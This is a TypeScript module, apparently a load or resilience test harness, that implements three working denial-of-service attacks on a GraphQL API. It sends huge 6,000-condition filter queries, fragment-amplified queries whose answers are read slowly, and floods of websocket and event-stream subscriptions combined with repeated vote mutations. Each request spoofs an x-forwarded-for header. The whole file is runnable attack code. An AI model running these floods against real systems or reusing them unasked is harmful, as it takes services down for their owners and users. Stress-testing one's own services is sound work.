import { request } from 'node:http'
import { setTimeout as pause } from 'node:timers/promises'
import { WebSocket } from 'ws'

type GraphqlAttack = { responses: Record<string, number>; latencies: number[] }

type Tally = GraphqlAttack & { note(response: string | number, began?: number): void }

function tally(): Tally {
  const responses: Record<string, number> = {}
  const latencies: number[] = []
  return {
    responses,
    latencies,
    note(response, began) {
      responses[response] = (responses[response] ?? 0) + 1
      if (began !== undefined) latencies.push(performance.now() - began)
    },
  }
}

const headersOf = (key: string) => ({
  'content-type': 'application/json',
  'x-api-key': key,
  'x-forwarded-for': '198.51.100.66',
})

async function post(url: string, key: string, body: string, signal: AbortSignal): Promise<number> {
  const response = await fetch(`${url}/graphql`, { method: 'POST', headers: headersOf(key), body, signal })
  await response.arrayBuffer()
  return response.status
}

/** 100 lists with the same filter of 6,000 conditions: 260 KB that PostgreSQL would have to plan. */
const sixThousandConditions = JSON.stringify({
  query: `query($f: ModelBlogFilterInput) { ${lists(100)} }`,
  variables: { f: { or: repeated(6_000, { content: { containsAnyCase: 'z1' } }) } },
})

const withinLimits = JSON.stringify({
  query: `query($f: ModelBlogFilterInput) { ${lists(10)} }`,
  variables: { f: { or: repeated(15, { content: { containsAnyCase: 'z1' } }) } },
})

function lists(count: number): string {
  return Array.from(
    { length: count },
    (_, index) => `a${index}: listBlogs(filter: $f, limit: 1) { total }`,
  ).join(' ')
}

function repeated<Value>(count: number, value: Value): Value[] {
  return Array.from({ length: count }, () => value)
}

export async function heavyFilters(url: string, key: string, signal: AbortSignal): Promise<GraphqlAttack> {
  const { note, ...attack } = tally()
  const send = async (body: string) => {
    const began = performance.now()
    const status = await post(url, key, body, signal).catch((error: Error) => error.name)
    if (!signal.aborted) note(status, began)
  }
  const keepSending = async (bodies: string[]) => {
    while (!signal.aborted) for (const body of bodies) await send(body)
  }
  await Promise.all(repeated(3, [sixThousandConditions, withinLimits]).map(keepSending))
  return attack
}

const names = Array.from({ length: 600 }, (_, index) => `n${index}: content`).join(' ')
const calls = Array.from({ length: 10 }, (_, index) => `r${index}: listBlogs(limit: 6) { items { ...Six } }`)

/** 12 KB that ask for the text of each post 6,000 times. */
const manyNames = JSON.stringify({ query: `{ ${calls.join(' ')} } fragment Six on Blog { ${names} }` })

export async function unreadAnswers(url: string, key: string, signal: AbortSignal): Promise<GraphqlAttack> {
  const { note, ...attack } = tally()
  const ask = () =>
    new Promise<void>((resolve) => {
      const asking = request(`${url}/graphql`, {
        method: 'POST',
        headers: headersOf(key),
        agent: false,
        signal,
      })
      asking.on('response', (answer) => {
        note(answer.statusCode ?? 0)
        answer.once('end', resolve).once('error', resolve)
        setTimeout(() => answer.resume(), 1_000)
      })
      asking.on('error', ({ message }) => {
        if (!signal.aborted) note(message)
        resolve()
      })
      asking.end(manyNames)
    })
  const keepAsking = async () => {
    while (!signal.aborted) await ask()
  }
  await Promise.all(repeated(12, keepAsking).map((program) => program()))
  return attack
}

const sockets = 60
const streams = 500
const subscriptionsPerSocket = 100
const OnUpdateReview = 'subscription { onUpdateReview { id helpfulCount title comment } }'

/** Votes need an approved review. */
export async function manySubscriptions(
  url: string,
  key: string,
  signal: AbortSignal,
): Promise<GraphqlAttack> {
  const { note, ...attack } = tally()
  const again = async (open: () => Promise<void>) => {
    while (!signal.aborted) {
      await open()
      await pause(500, undefined, { signal }).catch(() => undefined)
    }
  }
  const vote = async () => {
    const list = JSON.stringify({ query: '{ listReviews(limit: 3) { items { id } } }' })
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: headersOf(key),
      body: list,
      signal,
    })
    const answer = (await response.json()) as { data?: { listReviews?: { items: { id: string }[] } } }
    for (const { id } of answer.data?.listReviews?.items ?? []) {
      const began = performance.now()
      const query = `mutation { markReviewHelpful(id: "${id}") { id } }`
      note(`vote ${await post(url, key, JSON.stringify({ query }), signal)}`, began)
    }
  }
  const keepVoting = () =>
    again(() => vote().catch((error: Error) => void (signal.aborted || note(`vote ${error.name}`))))
  await Promise.all([
    ...repeated(sockets, () => again(() => socket(url, key, signal, note))).map((open) => open()),
    ...repeated(streams, () => again(() => stream(url, key, signal, note))).map((open) => open()),
    keepVoting(),
  ])
  return attack
}

type Note = Tally['note']

function socket(url: string, key: string, signal: AbortSignal, note: Note): Promise<void> {
  const { promise: closed, resolve } = Promise.withResolvers<void>()
  const ws = new WebSocket(`${url.replace(/^http/, 'ws')}/graphql`, 'graphql-transport-ws', {
    headers: { 'x-forwarded-for': headersOf(key)['x-forwarded-for'] },
  })
  const send = (message: object) => ws.send(JSON.stringify(message))
  const leave = () => ws.terminate()
  signal.addEventListener('abort', leave)
  ws.on('open', () => send({ type: 'connection_init', payload: { 'x-api-key': key } }))
  ws.on('message', (data) => {
    const { type } = JSON.parse(String(data)) as { type: string }
    note(`socket ${type}`)
    if (type === 'connection_ack')
      for (let id = 0; id < subscriptionsPerSocket; id++)
        send({ type: 'subscribe', id: String(id), payload: { query: OnUpdateReview } })
  })
  ws.on('error', ({ message }) => signal.aborted || note(`socket ${message}`))
  ws.on('close', (code) => {
    if (!signal.aborted) note(`socket closed ${code}`)
    signal.removeEventListener('abort', leave)
    resolve()
  })
  return closed
}

async function stream(url: string, key: string, signal: AbortSignal, note: Note): Promise<void> {
  try {
    const response = await fetch(`${url}/graphql?query=${encodeURIComponent(OnUpdateReview)}`, {
      headers: { ...headersOf(key), accept: 'text/event-stream' },
      signal,
    })
    note(`stream ${response.status}`)
    for await (const _chunk of response.body ?? []) note('stream chunk')
  } catch (error) {
    if (!signal.aborted) note(`stream ${error instanceof Error ? error.name : error}`)
  }
}
